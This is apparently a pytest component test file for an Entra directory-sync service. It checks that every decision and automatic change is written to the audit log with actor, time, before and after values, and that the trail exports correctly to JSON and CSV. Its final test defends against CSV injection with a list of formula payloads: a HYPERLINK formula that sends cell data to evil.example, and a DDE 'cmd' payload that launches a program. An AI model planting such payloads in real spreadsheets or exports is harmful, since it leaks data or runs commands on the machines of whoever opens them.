"""The audit trail (issue 6): every decision and every automatic change is recorded with actor,
time, before and after; ``audit`` shows the latest; ``entra-sync audit export --config FILE
[--format csv|json]`` writes it all.

The real SyncService on the real Redis (a database of its own: the export reads the product's
default key prefix), a clock that moves one minute per reading, the built-in directory.
"""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from collections.abc import AsyncIterator, Iterator
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
import redis.asyncio as aioredis
from pydantic import SecretStr

from sync.config import EnvSettings
from sync.models import Kind
from sync.service.runner import export_audit
from sync.service.service import Actor, SyncService
from sync.state.keys import Keys
from sync.state.store import AuditEntry
from tests.component.real_rig import (
    ADMIN,
    Rig,
    claim_redis_db,
    every_kind_world,
    make_service,
    real_bot,
    write_world,
)
from tests.component.test_bot_flow import activity, card_texts, message

pytestmark = pytest.mark.redis

ANN = Actor(ADMIN, "Ann Admin")
T0 = datetime(2026, 3, 2, 9, 0, tzinfo=UTC)
ENTRY = Path(sys.executable).parent / "entra-sync"
FIELDS = [
    "id",
    "at",
    "actor_id",
    "actor_name",
    "action",
    "tenant",
    "proposal_id",
    "entra_id",
    "app_user_id",
    "before",
    "after",
    "subject",
    "what",
    "changes",
]


class Clock:
    """One minute later at every reading: each audit entry gets its own time."""

    def __init__(self) -> None:
        self.now = T0

    def __call__(self) -> datetime:
        self.now += timedelta(minutes=1)
        return self.now


@dataclass
class World:
    service: SyncService
    redis: aioredis.Redis
    db: int
    clock: Clock
    config_path: Path

    @property
    def env(self) -> EnvSettings:
        return EnvSettings(
            REDIS_URL=f"redis://127.0.0.1:6379/{self.db}",
            ENTRA_SYNC_SECRET_KEY=SecretStr("ka5dX4mh1pQq0rYbqO8nmD0i3yR6uGzE2d9X7cV1bN8="),
        )

    async def entries(self) -> list[AuditEntry]:
        return await self.service.store.audit_log.export_audit()

    async def decide(self, kind: Kind, verb: str, **inputs: str) -> AuditEntry:
        item = next(i for i in await self.service.pending() if i.kind is kind)
        n = len(await self.entries())
        d = await self.service.decide(item.id, verb, actor=ANN, digest=item.digest, inputs=inputs)
        assert d.outcome == "done", d.message
        new = (await self.entries())[n:]
        mine = [e for e in new if e.proposal_id == item.id]
        assert len(mine) == 1, [e.action for e in new]
        return mine[0]


@pytest.fixture
def db() -> Iterator[int]:
    with claim_redis_db() as n:
        yield n


@pytest.fixture
async def world(tmp_path: Path, db: int) -> AsyncIterator[World]:
    tenant, directory = every_kind_world()
    cfg = write_world(tmp_path, tenant, directory)
    config_path = tmp_path / "config.toml"
    config_path.write_text(
        "[[tenants]]\n"
        'name = "contoso"\nsimulate = "tenant.json"\ndirectory = "main"\n'
        '[[directories]]\nname = "main"\nkind = "builtin"\nseed_file = "directory.json"\n'
    )
    r = aioredis.Redis.from_url(f"redis://127.0.0.1:6379/{db}")
    clock = Clock()
    svc = make_service(tmp_path, cfg, redis=r, keys=Keys(), clock=clock)
    await svc.start(scheduler=False)
    await svc.run_sync()
    try:
        yield World(svc, r, db, clock, config_path)
    finally:
        await svc.stop()
        await r.aclose()


def _at(e: AuditEntry) -> datetime:
    return e.at.astimezone(UTC)


# --- every decision, with actor, time, before and after -------------------------------------


async def test_accepting_a_match_records_the_directory_user_before_and_after(world: World) -> None:
    e = await world.decide(Kind.MATCH, "accept")
    assert (e.actor_id, e.actor_name, e.action) == (ADMIN, "Ann Admin", "accept match")
    assert T0 < _at(e) <= world.clock.now
    assert e.before["id"] == "1" and "entra_id" not in e.before
    assert e.after["entra_id"] == "e-anna" and e.app_user_id == "1"


async def test_applying_an_update_records_the_old_and_new_values(world: World) -> None:
    e = await world.decide(Kind.UPDATE, "apply")
    assert e.action == "apply update" and e.actor_id == ADMIN
    assert e.before["display_name"] == "C. Dahl (old)"
    assert e.after["display_name"] == "Carl Dahl"


async def test_creating_a_user_records_nothing_before_and_the_new_user_after(
    world: World,
) -> None:
    e = await world.decide(Kind.NEW, "create")
    assert e.action == "create new" and e.before is None
    assert e.after["entra_id"] == "e-dora" and e.app_user_id == e.after["id"]


async def test_linking_records_the_linked_user(world: World) -> None:
    e = await world.decide(Kind.NEW, "link", target="4")
    assert e.action == "link new" and e.app_user_id == "4"
    assert e.before.get("entra_id") is None and e.after["entra_id"] == "e-dora"


async def test_removing_the_sync_keeps_the_user_and_records_the_unlinking(world: World) -> None:
    e = await world.decide(Kind.REMOVAL, "remove_sync")
    assert e.before["entra_id"] == "e-gone" and "entra_id" not in e.after
    assert e.after["id"] == "3"


async def test_deleting_a_user_records_the_user_before_and_nothing_after(world: World) -> None:
    e = await world.decide(Kind.REMOVAL, "delete_user_confirm")
    assert e.action == "delete_user_confirm removal"
    assert e.before["id"] == "3" and e.after is None


async def test_choosing_a_numbers_owner_records_the_candidates_and_the_choice(
    world: World,
) -> None:
    e = await world.decide(Kind.CONFLICT, "pick_owner", owner="e-finn")
    assert e.before["candidates"] == ["Eve Falk", "Finn Gran"]
    assert e.after["owner"] == "Finn Gran" and e.before["owner"] is None
    assert (e.entra_id, e.subject) == ("e-finn", "Finn Gran")
    assert e.changes == (("owner", "", "Finn Gran"),)


async def test_ignoring_records_who_ignored_what_and_why(world: World) -> None:
    e = await world.decide(Kind.MATCH, "ignore")
    assert e.action == "ignore match" and e.actor_id == ADMIN
    assert e.entra_id == "e-anna"
    assert e.before == {"state": "pending"}
    assert e.after["state"] == "ignored" and "phone" in e.after["reason"]


async def test_un_ignoring_records_the_change(world: World) -> None:
    await world.decide(Kind.NEW, "ignore")
    digest = await world.service.unignore_digest("e-dora")
    d = await world.service.decide("e-dora", "unignore", actor=ANN, digest=digest, inputs={})
    assert d.outcome == "done"
    (e,) = [x for x in await world.entries() if x.action == "unignore"]
    assert (e.actor_id, e.entra_id) == (ADMIN, "e-dora")
    assert (e.before, e.after) == ({"ignored": True}, {"ignored": False})


async def test_saving_settings_records_the_settings_before_and_after(world: World) -> None:
    errors = await world.service.update_settings(
        {"schedule.mode": "interval", "schedule.every_hours": "6"}, actor=ANN
    )
    assert errors == {}
    (e,) = [x for x in await world.entries() if x.action == "settings"]
    assert e.actor_id == ADMIN
    assert e.before["schedule"]["mode"] == "manual"
    assert e.after["schedule"] == {"mode": "interval", "every_hours": 6}


async def test_disconnecting_records_what_was_removed(world: World) -> None:
    await world.service.disconnect("contoso", actor=ANN)
    (e,) = [x for x in await world.entries() if x.action == "disconnect"]
    assert e.actor_id == ADMIN and e.tenant == "contoso"
    assert e.before["pending_superseded"] == 5


async def test_the_guard_confirmation_and_dismissal_are_recorded(world: World) -> None:
    pid, digest = await world.service.guard_id("contoso", "main")
    for verb in ("guard_dismiss", "guard_confirm"):
        d = await world.service.decide(pid, verb, actor=ANN, digest=digest, inputs={})
        assert d.outcome == "done"
    got = {e.action: e for e in await world.entries() if e.action.startswith("guard")}
    assert got["guard dismissed"].actor_id == ADMIN
    assert got["guard dismissed"].before["removals"] == "held back"
    assert got["guard dismissed"].after["removals"] == "dismissed"
    assert got["guard confirmed"].actor_id == ADMIN
    assert got["guard confirmed"].after["removals"] == "proposed one by one"


async def test_every_decision_has_an_actor_a_time_and_a_before_or_after(world: World) -> None:
    await world.decide(Kind.MATCH, "accept")
    await world.decide(Kind.UPDATE, "apply")
    await world.decide(Kind.NEW, "ignore")
    await world.decide(Kind.REMOVAL, "remove_sync")
    await world.decide(Kind.CONFLICT, "pick_owner", owner="e-eve")
    pid, digest = await world.service.guard_id("contoso", "main")
    await world.service.decide(pid, "guard_dismiss", actor=ANN, digest=digest, inputs={})
    await world.service.decide(
        "e-dora",
        "unignore",
        actor=ANN,
        digest=await world.service.unignore_digest("e-dora"),
        inputs={},
    )
    await world.service.update_settings({"guard.max_removals": "3"}, actor=ANN)
    entries = await world.entries()
    decisions = entries  # one entry per decision, nothing else
    assert len(decisions) == 8
    assert all(e.actor_id == ADMIN and e.actor_name == "Ann Admin" for e in decisions)
    assert all(e.before is not None or e.after is not None for e in decisions)
    times = [_at(e) for e in entries]
    assert times == sorted(times) and len(set(times)) == len(times)


# --- automatic changes ----------------------------------------------------------------------


async def test_an_update_applied_by_the_schedule_is_recorded_as_the_systems(
    tmp_path: Path, db: int
) -> None:
    tenant, directory = every_kind_world()
    cfg = write_world(tmp_path, tenant, directory, schedule={"mode": "interval", "every_hours": 1})
    r = aioredis.Redis.from_url(f"redis://127.0.0.1:6379/{db}")
    svc = make_service(tmp_path, cfg, redis=r, keys=Keys(), clock=Clock())
    await svc.start(scheduler=False)
    try:
        (run,) = await svc.run_sync(trigger="scheduled")
        assert [i.kind for i in run.auto_applied] == [Kind.UPDATE]
        (e,) = [x for x in await svc.store.audit_log.export_audit() if x.action == "apply update"]
        assert (e.actor_id, e.actor_name) == ("system", "Entra Sync")
        assert e.before["display_name"] == "C. Dahl (old)"
        assert e.after["display_name"] == "Carl Dahl"
        # nothing else changed the directory by itself: no create, no delete, no link
        assert not [x for x in await svc.store.audit_log.export_audit() if x.actor_id == "system"][
            1:
        ]
    finally:
        await svc.stop()
        await r.aclose()


# --- `audit` in Teams -------------------------------------------------------------------------


async def test_the_audit_command_shows_the_latest_decisions_newest_first(
    world: World, aiohttp_client: Any
) -> None:
    await world.decide(Kind.MATCH, "accept")
    await world.decide(Kind.UPDATE, "apply")
    for n in range(30):  # more than one card can show
        await world.service.store.audit_log.audit(
            ADMIN, f"Admin {n}", f"note {n}", tenant="contoso"
        )
    async with real_bot(aiohttp_client, world.service) as rig:
        await _install(rig)
        await rig.post(message(rig.fc, "audit", aad=ADMIN))  # read-only: admins and their team
        text = card_texts(rig.fc.cards("POST")[-1])
    assert text.startswith("Recent decisions")
    assert "note 29" in text and "note 10" in text  # the latest 20...
    assert "note 9 " not in text and "apply update" not in text  # ...and nothing older
    assert text.index("note 29") < text.index("note 10")


async def _install(rig: Rig) -> None:
    status, _ = await rig.post(activity("installationUpdate", rig.fc, action="add"))
    assert status == 200


# --- export -------------------------------------------------------------------------------------


async def _fill(world: World) -> list[AuditEntry]:
    await world.decide(Kind.MATCH, "accept")
    await world.decide(Kind.UPDATE, "apply")
    await world.decide(Kind.NEW, "create")
    await world.decide(Kind.REMOVAL, "delete_user_confirm")
    await world.decide(Kind.CONFLICT, "pick_owner", owner="e-eve")
    return await world.entries()


async def test_the_json_export_holds_every_entry_oldest_first(world: World) -> None:
    entries = await _fill(world)
    rows = json.loads(await export_audit(str(world.config_path), "json", env=world.env))
    assert [r["id"] for r in rows] == [e.id for e in entries]
    assert rows == [e.to_dict() for e in entries]
    assert all(set(r) == set(FIELDS) for r in rows)


async def test_the_csv_export_holds_every_entry_with_before_and_after_as_json(
    world: World,
) -> None:
    entries = await _fill(world)
    text = await export_audit(str(world.config_path), "csv", env=world.env)
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [r["id"] for r in rows] == [e.id for e in entries]
    assert list(rows[0]) == FIELDS
    for row, e in zip(rows, entries, strict=True):
        assert row["actor_id"] == e.actor_id and row["at"] == e.at.isoformat()
        assert (json.loads(row["before"]) if row["before"] else None) == e.before
        assert (json.loads(row["after"]) if row["after"] else None) == e.after


async def test_the_export_reads_past_one_page_of_entries(world: World) -> None:
    pipe = world.redis.pipeline(transaction=False)
    for n in range(2_345):
        pipe.xadd(
            Keys().audit(),
            {
                "at": T0.isoformat(),
                "actor_id": "x",
                "actor_name": "x",
                "action": f"n{n}",
                "tenant": "t",
            },
        )
    await pipe.execute()
    total = len(await world.entries())
    rows = json.loads(await export_audit(str(world.config_path), "json", env=world.env))
    assert len(rows) == total >= 2_345
    assert len({r["id"] for r in rows}) == total  # no entry twice at the page borders


@pytest.mark.parametrize("fmt", ["json", "csv"])
async def test_the_cli_writes_the_whole_trail(world: World, fmt: str) -> None:
    entries = await _fill(world)
    env = {k: v for k, v in os.environ.items() if not k.startswith(("MICROSOFT_APP_", "REDIS"))}
    env["REDIS_URL"] = f"redis://127.0.0.1:6379/{world.db}"
    proc = subprocess.run(
        [str(ENTRY), "audit", "export", "--config", str(world.config_path), "--format", fmt],
        env=env,
        capture_output=True,
        timeout=60,
        check=False,
    )
    assert proc.returncode == 0, proc.stderr.decode()[-2000:]
    out = proc.stdout.decode()
    if fmt == "json":
        ids = [r["id"] for r in json.loads(out)]
    else:
        ids = [r["id"] for r in csv.DictReader(io.StringIO(out))]
    assert ids == [e.id for e in entries]


async def test_the_cli_refuses_a_bad_config_file_with_exit_2(tmp_path: Path) -> None:
    bad = tmp_path / "bad.toml"
    bad.write_text("[[tenants]\nname = ")
    proc = subprocess.run(
        [str(ENTRY), "audit", "export", "--config", str(bad)],
        capture_output=True,
        timeout=60,
        check=False,
    )
    assert proc.returncode == 2
    assert str(bad) in proc.stderr.decode() and proc.stdout == b""


# --- CSV injection (issue 19): a cell a spreadsheet would run as a formula is made text ---------

FORMULAS = [
    '=HYPERLINK("https://evil.example/?d="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


async def test_the_csv_export_makes_formula_cells_text_with_a_leading_quote(
    world: World,
) -> None:
    for n, formula in enumerate(FORMULAS):
        await world.service.store.audit_log.audit(
            f"actor-{n}", formula, formula, tenant=formula, entra_id=formula
        )
    await world.service.store.audit_log.audit("plain", "Ann = Admin", "note", tenant="contoso")
    text = await export_audit(str(world.config_path), "csv", env=world.env)
    rows = {r["actor_id"]: r for r in csv.DictReader(io.StringIO(text, newline=""))}
    for n, formula in enumerate(FORMULAS):
        row = rows[f"actor-{n}"]
        for name in ("actor_name", "action", "tenant", "entra_id"):
            assert row[name] == "'" + formula, (name, row[name])
    # text that only contains a formula character further in is left as it is
    assert rows["plain"]["actor_name"] == "Ann = Admin" and rows["plain"]["tenant"] == "contoso"
    # the JSON export is data, not a spreadsheet: values stay exact
    exported = json.loads(await export_audit(str(world.config_path), "json", env=world.env))
    assert {r["actor_name"] for r in exported} >= set(FORMULAS)
